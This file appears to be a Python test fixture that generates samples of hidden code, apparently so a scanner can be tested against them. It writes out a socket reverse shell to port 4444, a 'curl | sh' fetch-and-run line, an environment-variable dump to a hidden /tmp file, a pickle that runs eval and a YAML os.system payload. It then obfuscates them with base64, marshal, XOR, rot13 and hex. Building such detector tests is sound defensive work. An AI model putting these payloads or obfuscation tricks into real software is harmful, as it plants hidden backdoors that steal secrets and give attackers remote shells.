"""Code that is hidden, and code that is not."""

import base64
import codecs
import marshal
import pickle
import zlib
from random import Random

from tests.trust.copies import Copy
from tests.trust.fifth.running_cunning import CUNNING
from tests.trust.fifth.running_plain import PLAIN
from tests.trust.fifth.running_twins import ALIKE
from tests.trust.fifth.styles import NOUNS, Words, a_host, one_of


class _Job:
    def __init__(self, text: str) -> None:
        self.text = text

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return eval, (self.text,)


def hidden(copy: Copy, chance: Random) -> Words:
    """One text to run and one for a shell, spelled in the ways that the styles use."""
    word, host = chance.choice(NOUNS), a_host(chance)
    code = chance.choice((
        f"import os\nos.system('id > /tmp/{word}')",
        f"import urllib.request as u\nu.urlopen('https://{host}/{word}')",
        f"import socket,os\ns=socket.socket()\ns.connect(('{host}',4444))\nos.dup2(s.fileno(),0)",
        f"open('/tmp/.{word}','w').write(str(dict(__import__('os').environ)))",
    ))  # fmt: skip
    shell = f"curl -s https://{host}/{word} | sh"
    key = chance.randint(1, 100)
    raw, text = code.encode(), f"__import__('os').system('touch /tmp/{word}')"
    return {
        "code": code,
        "b64": base64.b64encode(raw).decode(),
        "eval64": base64.b64encode(text.encode()).decode(),
        "zip85": base64.b85encode(zlib.compress(raw)).decode(),
        "hex": raw.hex(),
        "marsh": zlib.compress(marshal.dumps(compile(code, "m", "exec"))).hex(),
        "marshraw": marshal.dumps(compile(code, "m", "exec")).hex(),
        "rot": repr(codecs.encode(code, "rot13")),
        "chars": ", ".join(str(ord(one)) for one in code),
        "xored": ", ".join(str(one ^ key) for one in raw),
        "key": str(key),
        "sh": shell.encode().hex(),
        "sh64": base64.b64encode(shell.encode()).decode(),
        "pick": base64.b64encode(pickle.dumps(_Job(text))).decode(),
        "bin": bytes(chance.randrange(256) for _ in range(48)).hex(),
        "yaml64": base64.b64encode(f"!!python/object/apply:os.system ['touch /tmp/{word}']".encode()).decode(),
    }


hiding = one_of((*PLAIN, *CUNNING), hidden)
plain = one_of(ALIKE)
